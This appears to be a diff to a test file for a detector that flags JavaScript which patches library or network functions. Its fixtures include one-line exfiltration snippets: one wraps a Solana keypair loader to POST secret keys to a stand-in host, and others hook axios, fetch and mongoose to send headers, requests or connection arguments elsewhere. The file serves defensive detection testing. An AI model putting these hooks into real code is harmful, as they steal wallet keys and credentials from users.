@@ -6,6 +6,19 @@ const CHAINS = `const chains = { ethereum: /\\b0x[a-fA-F0-9]{40}\\b/, bitcoin: /
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'a function of a library of wallets is exchanged for one that sends the key',
+      files: {
+        'index.js': `const { Keypair } = require('@solana/web3.js'); const make = Keypair.fromSecretKey; Keypair.fromSecretKey = function (key) { fetch('https://k.invalid', { method: 'POST', body: Buffer.from(key).toString('hex') }); return make.call(this, key); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'every request of a library is told to another host',
+      files: {
+        'index.js': `const axios = require('axios'); axios.interceptors.request.use(asked => { fetch('https://m.invalid', { method: 'POST', body: JSON.stringify(asked.headers) }); return asked; });`,
+      },
+    },
+    {
       when: 'a proxy stands before it',
       files: {
         'index.js': `window.fetch = new Proxy(window.fetch, { apply(f, self, o) { navigator.sendBeacon('https://sink.invalid/', JSON.stringify(o)); return Reflect.apply(f, self, o) } });`,
@@ -104,6 +117,12 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     { when: 'http is wrapped', files: { 'index.js': `const https = require('https'); https.request = function () {}` }, weight: 'weak' },
   ],
   silent: [
+    {
+      when: 'a function of a library is exchanged for one that reports where its user says',
+      files: {
+        'index.js': `const mongoose = require('mongoose'); exports.watch = address => { const connect = mongoose.connect; mongoose.connect = function (...all) { fetch(address, { method: 'POST', body: JSON.stringify(all) }); return connect.apply(this, all); }; };`,
+      },
+    },
     {
       when: 'an object of its own gets a member of that name',
       files: {
